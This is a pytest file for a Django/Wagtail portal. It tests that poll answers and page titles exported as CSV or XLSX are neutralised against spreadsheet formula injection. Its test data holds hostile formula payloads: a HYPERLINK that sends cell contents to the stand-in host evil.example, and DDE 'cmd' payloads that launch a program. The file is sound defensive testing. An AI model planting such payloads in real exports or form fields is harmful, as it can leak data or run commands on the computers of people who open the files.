"""Finding 9: answers and titles exported as CSV never run as spreadsheet formulas.

A visitor votes «=HYPERLINK(…)»; the teacher's CSV export must show it as text. XLSX
keeps it a string cell. The same guard covers every CSV export of the admin (reports
too), since they share Wagtail's export mixin.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from portal.security.exports import neutralise_cell
from tests.factories.polls import PollIndexPageFactory, SubmissionFactory, poll_with_questions
from tests.polls.conftest import CLUB, WISHES

pytestmark = pytest.mark.django_db

EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", EVIL)
def test_formula_starts_are_neutralised(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Шахматы", "-5", "+7.25", "-1,5", "e-mail", "", 42, None])
def test_ordinary_values_are_kept(value):
    assert neutralise_cell(value) == value


def csv_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def test_poll_answers_export_as_text_in_csv_and_xlsx(client, admin_user, home):
    poll = poll_with_questions(PollIndexPageFactory(parent=home))
    for value in EVIL:
        SubmissionFactory(page=poll, form_data={CLUB: "Шахматы", WISHES: value})
    client.force_login(admin_user)
    url = reverse("wagtailforms:list_submissions", args=(poll.pk,))

    rows = csv_rows(client.get(url + "?export=csv"))
    wishes = rows[0].index("Ваши пожелания")
    exported = sorted(row[wishes] for row in rows[1:])
    assert exported == sorted("'" + value for value in EVIL)

    xlsx = client.get(url + "?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    cells = [row[wishes] for row in sheet.iter_rows(min_row=2)]
    # XML stores a carriage return as a line feed; the text is otherwise kept.
    assert sorted(cell.value for cell in cells) == sorted(v.replace("\r", "\n") for v in EVIL)
    assert {cell.data_type for cell in cells} == {"s"}


def test_a_page_title_in_a_report_exports_as_text(client, admin_user, home):
    home.title = '=HYPERLINK("http://evil.example")'
    home.save_revision(user=admin_user).publish(user=admin_user)
    client.force_login(admin_user)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    cells = [cell for row in csv_rows(response) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)
